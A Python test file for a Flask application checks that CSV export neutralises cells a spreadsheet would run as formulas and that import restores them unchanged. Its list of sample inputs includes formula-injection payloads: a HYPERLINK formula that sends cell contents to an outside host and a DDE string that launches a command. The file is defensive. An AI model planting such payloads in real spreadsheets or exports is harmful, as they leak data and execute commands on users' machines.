"""CSV export guards cells a spreadsheet would run as formulas; import strips the guard: a lossless round trip."""

from __future__ import annotations

import csv
import io

from flask import Flask

from tests.conftest import login
from tests.entities.test_import_export import define, items, run_export, run_import

FIELDS = [{"name": "code", "type": "text"}, {"name": "notes", "type": "text", "typeRules": {"maxLength": 500}},
          {"name": "count", "type": "integer"}, {"name": "price", "type": "decimal"},
          {"name": "tags", "type": "text", "multiplicity": "many"}]
DANGEROUS = ['=HYPERLINK("http://x.io?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\tlead",
             "\rlead", "'quoted already", "''two", "plain", "a=b"]


def test_formula_cells_are_guarded_and_the_round_trip_is_lossless(app: Flask):
    api = login(app)
    define(api, "cells", FIELDS)
    define(api, "cellcopies", FIELDS)
    for i, text in enumerate(DANGEROUS):
        body = {"code": f"c{i:02d}", "notes": text, "count": -2 - i, "price": -1.5, "tags": [text, "=1"]}
        assert api.post("/data/cells", json=body).status_code == 200
    _, rows = run_export(api, "cells", "_useFieldNames=true&_sortField=code")
    header = rows[0]
    data = sorted(rows[1:], key=lambda row: row[header.index("code")])
    notes, count, price = header.index("notes"), header.index("count"), header.index("price")
    tags = [i for i, h in enumerate(header) if h.startswith("tags")]
    for row, text in zip(data, DANGEROUS, strict=True):
        guarded = text[0] in "=+-@\t\r'"
        assert row[notes] == ("'" + text if guarded else text)
        assert row[count].startswith("-") and row[price] == "-1.5"  # numbers in numeric columns stay numbers
        assert row[tags[1]] == "'=1"
        assert not row[notes].startswith(("=", "+", "-", "@", "\t", "\r"))
    buffer = io.StringIO()
    csv.writer(buffer).writerows(rows)
    job = run_import(api, "cellcopies", buffer.getvalue())
    assert job["results"] == {"rowsImported": len(DANGEROUS), "rowsWithErrors": 0}, job
    copies = sorted(items(api, "cellcopies"), key=lambda r: r["code"])
    assert [c["notes"] for c in copies] == DANGEROUS
    assert [c["tags"] for c in copies] == [[t, "=1"] for t in DANGEROUS]
    assert [c["count"] for c in copies] == [-2 - i for i in range(len(DANGEROUS))]
